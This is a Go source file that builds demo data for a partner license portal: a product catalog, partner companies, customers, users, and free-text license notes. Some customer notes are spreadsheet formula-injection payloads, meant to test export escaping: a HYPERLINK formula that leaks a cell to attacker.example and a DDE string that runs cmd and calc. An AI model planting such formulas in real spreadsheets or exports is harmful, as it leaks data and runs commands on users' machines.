package demo

import (
	"fmt"
	"strings"

	"github.com/partnerportal/licenses/shared/license"
)

// product is a product of the catalog and how the generator uses it.
type product struct {
	id        string
	name      string
	category  license.Category
	hidden    bool   // not visible to partners
	weight    int    // share of the licenses, in percent
	keyPrefix string // of its license keys
	host      string // stem of its deployments' names; on-prem only
}

// catalog is the vendor's product line. On-prem products take 78% of the
// licenses, which Large's DeploymentsPerLicense counts on.
//
// MetaDefender IT Access, hidden from partners, is on-prem so that its
// licenses carry deployments too, which the export's deployment sheet must
// leave out like everything else of a hidden product.
var catalog = []product{
	{"metadefender-core", "MetaDefender Core", license.OnPrem, false, 30, "MDC", "mdcore"},
	{"metadefender-kiosk", "MetaDefender Kiosk", license.OnPrem, false, 12, "MDK", "kiosk"},
	{"metadefender-icap-server", "MetaDefender ICAP Server", license.OnPrem, false, 12, "MDI", "icap"},
	{"metadefender-email-gateway-security", "MetaDefender Email Gateway Security", license.OnPrem, false, 10, "MEG", "mailgw"},
	{"metadefender-vault", "MetaDefender Vault", license.OnPrem, false, 8, "MDV", "vault"},
	{"metadefender-cloud", "MetaDefender Cloud", license.CloudService, false, 12, "MCL", ""},
	{"metadefender-cloud-email-security", "MetaDefender Cloud Email Security", license.CloudService, false, 10, "MCE", ""},
	{"metadefender-it-access", "MetaDefender IT Access", license.OnPrem, true, 6, "MIA", "itaccess"},
}

// catalogWeight is the sum of the catalog's weights, onPremWeight that of its on-prem products.
var catalogWeight, onPremWeight = func() (total, onPrem int) {
	for _, p := range catalog {
		total += p.weight
		if p.category == license.OnPrem {
			onPrem += p.weight
		}
	}
	return total, onPrem
}()

// scanLimits are the daily scan tiers of cloud-service licenses, smallest first.
var scanLimits = []int{1_000, 2_500, 5_000, 10_000, 25_000, 50_000, 100_000}

// sites name where deployments run, in their host names.
var sites = []string{"fra", "ams", "lon", "nyc", "dal", "sin", "tyo", "syd", "zrh", "tor"}

// company is a partner's name and the domain of its users' e-mail addresses.
type company struct {
	name   string
	domain string // without ".example"
}

var distributorCompanies = []company{
	{"Northbridge Distribution", "northbridge-distribution"},
	{"Atlas Cyber Distribution AG", "atlas-cyber"},
	{"Pacific Rim Security Supply", "pacificrim-security"},
	{"Meridian Value-Added Distribution", "meridian-vad"},
}

var resellerCompanies = []company{
	{"Clearpath IT Solutions", "clearpath-it"},
	{"Sentinel Systems Integration", "sentinel-si"},
	{"BlueHarbor Networks", "blueharbor"},
	{"Ironclad Security Partners", "ironclad-security"},
	{"Kovač & Partner IT d.o.o.", "kovac-partner"},
	{"Redline Cyber Consulting", "redline-cyber"},
	{"Summit Secure Technologies", "summit-secure"},
	{"Nordlicht Informationstechnik GmbH", "nordlicht-it"},
}

// idleReseller is org-res-idle, a reseller that has no customers yet.
var idleReseller = company{"Lighthouse Security Consulting", "lighthouse-security"}

// Customer names are a stem and an industry, with often a legal form, or a
// stem and a public body. Some stems are not ASCII, so that sorting and the
// workbook meet real-world names.
var (
	nameStems = []string{
		"Harbor Point", "Kestrel", "Valmont", "Bluewater", "Granite Peak", "Silverline", "Redwood",
		"Northwind", "Evergreen", "Summit Ridge", "Ironbridge", "Crescent", "Lakeside", "Pinecrest",
		"Oakridge", "Brightwater", "Stonegate", "Riverbend", "Falcon", "Cobalt", "Meadowbrook",
		"Westfield", "Eastgate", "Highland", "Coastal", "Sterling", "Aurora", "Beacon", "Cedar Hill",
		"Horizon", "Müller", "Nordström", "Zürich", "Łódź", "São Paulo", "Malmö", "Kraków", "Århus",
	}
	industries = []string{
		"Logistics", "Energy", "Medical Center", "Bank", "Insurance", "Manufacturing", "Pharmaceuticals",
		"Utilities", "Rail", "Telecom", "Semiconductors", "Foods", "Retail Group", "Shipping",
		"Aerospace", "Defense Systems", "Chemicals", "Steelworks", "Automotive", "Power & Light",
		"Data Centers", "Hotels",
	}
	publicBodies = []string{
		"Water Authority", "Port Authority", "Airport Authority", "University", "Public Schools",
		"County Government", "Health System", "Credit Union",
	}
	// The empty suffix is listed three times: many company names have no legal form.
	legalSuffixes = []string{"", "", "", "Inc.", "LLC", "GmbH", "AG", "Ltd", "S.A.", "B.V.", "PLC", "AB", "Sp. z o.o.", "K.K."}

	// asciiFold spells the stems' accented letters in ASCII, for e-mail domains.
	asciiFold = strings.NewReplacer("á", "a", "å", "a", "ã", "a", "ł", "l", "ó", "o", "ö", "o", "ř", "r", "ü", "u", "ź", "z")

	// divisionNames name sub-organizations after their main organization.
	divisionNames = []string{
		"EMEA", "APAC", "Americas", "Research & Development", "Manufacturing", "Retail Stores",
		"Head Office", "Data Center Operations", "Field Services", "Berlin Office", "Singapore Office",
		"Toronto Office",
	}
)

// personNames are the users' names; their e-mail addresses are made from them.
var personNames = []string{
	"Anna Keller", "Jonas Weber", "Priya Raman", "Marco Rossi", "Sofia Lindqvist", "Daniel Okafor",
	"Emma Dubois", "Lukas Novak", "Hannah Schmidt", "Kenji Watanabe", "Olivia Brooks", "Mateo Garcia",
	"Chloe Martin", "Noah Fischer", "Aisha Khan", "Liam Walsh", "Mia Jensen", "Ethan Clarke",
	"Isabel Costa", "Tomasz Nowak", "Grace Lee", "Samuel Adeyemi", "Elena Petrova", "Yuki Tanaka",
}

// customerNotes are the customers' own notes on licenses. Some begin with
// '=', '+', '-' or '@', which a spreadsheet would run as a formula, and some
// are not ASCII.
var customerNotes = []string{
	"Renewal goes through procurement: a PO is needed before the end of the quarter.",
	"Installed in the DMZ scanning cluster.",
	"Proof of concept for the OT network; decision expected after the pilot.",
	"Contact: IT operations (it-ops)\nBackup contact: security desk, ext. 4410",
	"Used by the mailroom kiosks at all three sites.",
	"Budget for the renewal approved by the CISO.",
	`=HYPERLINK("https://attacker.example/?leak="&A1,"Click for details")`,
	"=1+2",
	"+49 30 1234567 – call the site manager before any change",
	"-2 instances moved to the disaster recovery site",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"@security-team please confirm the renewal date",
	"Lizenz für das Rechenzentrum Zürich – Ansprechpartner: Jürgen Groß",
	"東京オフィスのキオスク端末用ライセンス",
	"Équipe sécurité — site de Montréal, renouvellement prévu en été",
	"Licencja dla oddziału w Łodzi – kontakt: Paweł Żak",
}

// partnerNotes are the partners' notes on licenses, one near the length limit.
var partnerNotes = []string{
	"Renewal quote sent, waiting for the PO.",
	"Customer asked for a three-year term at the next renewal.",
	"Upsell: five more Kiosk units for the new plant, demo booked.",
	"Escalated to vendor support, case 01234567.",
	"Follow up with the CISO next quarter.\n\t- budget approved\n\t- waiting for legal",
	"Verlängerung angeboten – Rückmeldung bis Monatsende.",
	"-- do not contact before the audit is over --",
	"=2+3 (pricing check, keep as text)",
	"@renewals: price list 2024 applies",
	"+15% uplift agreed with the customer",
	longPartnerNote,
}

// longPartnerNote is a partner note just under the 2,000-character limit,
// with lines and tabs, to exercise wrapping in the page and the workbook.
var longPartnerNote = func() string {
	var b strings.Builder
	b.WriteString("Renewal log, newest first:\n")
	for i := 1; ; i++ {
		line := fmt.Sprintf("\t%02d.\tCall with procurement: quote Q-%d sent; they want the term aligned with their other MetaDefender licenses.\n", i, 4100+i)
		if b.Len()+len(line) > license.MaxNoteLength-10 {
			return b.String()
		}
		b.WriteString(line)
	}
}()
